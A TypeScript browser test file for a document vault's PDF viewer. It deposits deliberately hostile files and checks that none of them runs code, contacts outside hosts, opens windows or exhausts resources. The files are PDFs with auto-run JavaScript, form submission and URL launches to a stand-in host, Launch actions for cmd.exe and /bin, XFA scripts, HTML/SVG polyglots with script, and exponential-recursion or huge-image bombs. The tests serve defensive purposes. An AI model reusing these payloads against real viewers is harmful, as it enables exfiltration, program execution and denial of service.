// Papers that were made to do harm, added with `coffre` and opened in the page: nothing of them runs, nobody is asked for anything,
// and the page goes on. Each is either drawn as a picture, or refused with a sentence.
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openWindow, startBrowser, type Window } from "./harness/browser.ts";
import { type Demo, startDemo } from "./harness/demo.ts";
import { packed, pdf, sheet, stream } from "./harness/pdf.ts";
import { logIn } from "./harness/people.ts";
import { home, settled } from "./harness/vault.ts";

/** In every address and every script of the files. */
const MARK = "hostile";
const SCRIPT = `app.alert('${MARK}'); globalThis.${MARK} = true; this.submitForm('https://elsewhere.test/${MARK}'); app.launchURL('https://elsewhere.test/${MARK}', true);`;
const ACTION = `<< /S /JavaScript /JS (${SCRIPT.replaceAll("(", "\\(").replaceAll(")", "\\)")}) >>`;
const HTML = `<!doctype html><script>globalThis.${MARK}=true</script><img src="https://elsewhere.test/${MARK}" onerror="globalThis.${MARK}=true">`;

const link = (action: string): string => `/Annots [ << /Type /Annot /Subtype /Link /Rect [ 0 0 595 842 ] /A ${action} >> ]`;

/** Forms that draw each other twice: two to the power of how many there are. */
const doubled = pdf(
  "<< /Type /Catalog /Pages 2 0 R >>",
  "<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>",
  "<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 595 842 ] /Resources << /XObject << /X 5 0 R >> >> /Contents 4 0 R >>",
  stream("/X Do"),
  ...Array.from({ length: 40 }, (_, i) => stream("/X Do /X Do", `/Type /XObject /Subtype /Form /BBox [ 0 0 595 842 ] /Resources << /XObject << /X ${i === 39 ? 5 : 6 + i} 0 R >> >>`)),
);

/** What the page does with each: it draws it, says that it cannot, or refuses to touch it. */
const FILES: Readonly<Record<string, readonly [content: Buffer | string, end: "drawn" | "not drawn" | "refused", name?: string]>> = {
  "a script that runs when it is opened": [sheet({ catalog: `/OpenAction ${ACTION} /AA << /WC ${ACTION} /WP ${ACTION} >> /Names << /JavaScript << /Names [ (a) ${ACTION} ] >> >>` }), "drawn"],
  "scripts of the page and of a field": [
    sheet({
      catalog: "/AcroForm << /Fields [ 6 0 R ] /NeedAppearances true >>",
      page: `/AA << /O ${ACTION} /C ${ACTION} >> /Annots [ 6 0 R ]`,
      objects: [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [ 50 50 200 80 ] /AA << /E ${ACTION} /Fo ${ACTION} /K ${ACTION} /C ${ACTION} >> /A ${ACTION} >>`],
    }),
    "drawn",
  ],
  "an address over the whole page": [sheet({ catalog: `/OpenAction << /S /URI /URI (https://elsewhere.test/${MARK}) >>`, page: link(`<< /S /URI /URI (https://elsewhere.test/${MARK}) >>`) }), "drawn"],
  "a script as an address": [sheet({ page: link(`<< /S /URI /URI (javascript:globalThis.${MARK}=true) >>`) }), "drawn"],
  "a program to start": [sheet({ catalog: `/OpenAction << /S /Launch /F (/bin/${MARK}) >>`, page: link(`<< /S /Launch /Win << /F (cmd.exe) /P (/c ${MARK}) >> >>`) }), "drawn"],
  "another file to go to": [sheet({ catalog: `/OpenAction << /S /GoToR /F << /FS /URL /F (https://elsewhere.test/${MARK}.pdf) >> /D [ 0 /Fit ] >>` }), "drawn"],
  "a form to send": [sheet({ catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://elsewhere.test/${MARK}) >> >>` }), "drawn"],
  "a picture from elsewhere": [
    sheet({
      resources: "/XObject << /Y 6 0 R >>",
      draw: "q 100 0 0 100 300 300 cm /Y Do Q",
      objects: [stream("", `/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (https://elsewhere.test/${MARK}.png) >>`)],
    }),
    "drawn",
  ],
  "a form of XFA": [
    sheet({
      catalog: "/AcroForm << /Fields [ ] /XFA 6 0 R >> /NeedsRendering true",
      objects: [stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">${SCRIPT}</script></event><draw><value><image href="https://elsewhere.test/${MARK}.png"/></value></draw></subform></template></xdp:xdp>`)],
    }),
    "drawn",
  ],
  "a function that is compiled": [
    sheet({
      resources: "/Shading << /H << /ShadingType 2 /ColorSpace /DeviceRGB /Coords [ 0 0 595 0 ] /Domain [ 0 1 ] /Function 6 0 R >> >>",
      draw: "q 0 0 595 50 re W n /H sh Q",
      objects: [stream("{ dup 2 mul exch dup }", "/FunctionType 4 /Domain [ 0 1 ] /Range [ 0 1 0 1 0 1 ]")],
    }),
    "drawn",
  ],
  "a page of HTML at the end of a PDF": [Buffer.concat([sheet(), Buffer.from(HTML)]), "drawn"],
  "a page of HTML that holds a PDF": [Buffer.concat([Buffer.from(HTML), sheet()]), "refused"],
  "HTML under the name of a PDF": [HTML, "refused"],
  "a drawing with a script": [`<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.${MARK}=true"><script>globalThis.${MARK}=true</script></svg>`, "refused", "dessin.svg"],
  "a page a million points wide": [sheet({ box: "0 0 1000000 842" }), "drawn"],
  "a page a million points wide and high": [sheet({ box: "0 0 1000000 1000000", page: "/UserUnit 1000" }), "drawn"],
  "a page without a size": [sheet({ box: "0 0 0 0" }), "drawn"],
  "a picture of a hundred thousand pixels each way": [
    sheet({ resources: "/XObject << /Y 6 0 R >>", draw: "q 100 0 0 100 300 300 cm /Y Do Q", objects: [packed("x", "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8")] }),
    "drawn",
  ],
  "a file that was cut": [sheet().subarray(0, 400), "not drawn"],
  "nothing but its first line": ["%PDF-1.7\n", "not drawn"],
  "pages that are each other's pages": [
    pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>", "<< /Type /Pages /Kids [ 2 0 R ] /Count 1 >>"),
    "not drawn",
  ],
  "lengths that name each other": [
    pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 595 842 ] /Contents 4 0 R >>", "5 0 R", "4 0 R"),
    "drawn",
  ],
  "a password": [
    Buffer.from(
      sheet()
        .toString("latin1")
        .replace("/Root 1 0 R", `/Root 1 0 R /ID [ <00000000000000000000000000000000> <00000000000000000000000000000000> ] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`),
      "latin1",
    ),
    "not drawn",
  ],
  "drawings that draw each other for ever": [doubled, "not drawn"],
};

let demo: Demo;
let browser: Browser;

beforeAll(async () => {
  demo = await startDemo();
  browser = await startBrowser(demo);
  for (const [title, [content, , name = "papier.pdf"]] of Object.entries(FILES)) {
    const path = join(demo.folder, name);
    writeFileSync(path, content);
    demo.coffre("desk", "deposit", "--vault", demo.vault, "--folder", "Ressources", "--type", "other", "--title", title, path);
  }
}, 600_000);

afterAll(async () => {
  await browser?.close();
  await demo?.stop();
});

/** Opens a paper of the person and waits for the page's last word on it. */
async function open(page: Page, title: string): Promise<string> {
  await home(page);
  await page.locator(".tile").filter({ has: page.getByText(title, { exact: true }) }).click();
  await page.waitForFunction(
    () => document.querySelector(".failure, .remark") !== null || (document.querySelector<HTMLCanvasElement>("canvas.paper-picture")?.width ?? 0) > 20,
    undefined,
    { timeout: 40_000 },
  );
  await settled(page);
  const said = await page.locator("main").innerText();
  if (said.includes("n’est pas ce qu’il dit être")) return "refused";
  return /ne peut pas (le montrer|montrer ce papier)/.test(said) ? "not drawn" : "drawn";
}

/** How many of a drawn page's pixels are dark. */
function dark(page: Page): Promise<number> {
  return page.evaluate(() => {
    const canvas = document.querySelector<HTMLCanvasElement>("canvas.paper-picture");
    const data = canvas?.getContext("2d")?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
    let count = 0;
    for (let i = 0; i < data.length; i += 4) if ((data[i] ?? 255) < 90) count += 1;
    return count;
  });
}

describe("a paper that was made to do harm does none:", () => {
  let window: Window;
  const seen: string[] = [];

  beforeAll(async () => {
    window = await openWindow(browser, demo.origin, "desk", "fr-FR");
    const { page, context } = window;
    context.on("page", () => seen.push("a window was opened"));
    context.on("request", (request) => request.url().includes(MARK) && seen.push(`asked for ${request.url()}`));
    page.on("dialog", (dialog) => {
      seen.push("a dialog was shown");
      void dialog.dismiss();
    });
    page.on("download", () => seen.push("a file was saved"));
    await page.addInitScript(() => addEventListener("securitypolicyviolation", (event) => console.error(`Content Security Policy: ${event.blockedURI}`)));
    await logIn(page, demo.people.beneficiary);
  });

  for (const [title, [, end]] of Object.entries(FILES)) {
    it(`${title} (${end})`, async () => {
      const { page, complaints } = window;
      seen.length = complaints.length = 0;
      expect(await open(page, title)).toBe(end);
      const canvas = page.locator("canvas.paper-picture").first();
      if (end === "drawn") {
        // A hand on it, where links and fields would be.
        await canvas.click({ position: { x: 5, y: 1 }, force: true });
        const [width = 0, height = 0] = await canvas.evaluate((element: HTMLCanvasElement) => [element.width, element.height]);
        expect(Math.max(width, height)).toBeLessThanOrEqual(4096);
        expect(width * height).toBeLessThanOrEqual(5_000_000);
      }
      await page.waitForTimeout(150);
      expect(await page.evaluate((mark) => Object.hasOwn(globalThis, mark), MARK)).toBe(false);
      expect(new URL(page.url()).origin).toBe(demo.origin);
      expect([...seen, ...complaints]).toEqual([]);
    });
  }

  it("and what is no harm in them is drawn", async () => {
    expect(await open(window.page, "a script that runs when it is opened")).toBe("drawn");
    expect(await dark(window.page)).toBeGreaterThan(10_000);
  });

  it("and their reader has no way out and no storage", async () => {
    const { page } = window;
    await open(page, "a form to send");
    // The page's own worker and this paper's: those of the papers before it have ended, though the browser may tell so a moment later.
    await expect.poll(() => page.workers().length, { timeout: 10_000 }).toBe(2);
    const reader = page.workers().at(-1);
    const ways = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Worker", "BroadcastChannel", "indexedDB", "caches", "navigator", "WebAssembly"];
    expect(await reader?.evaluate((names) => names.filter((name) => (globalThis as Record<string, unknown>)[name] !== undefined), ways)).toEqual([]);
  });
});
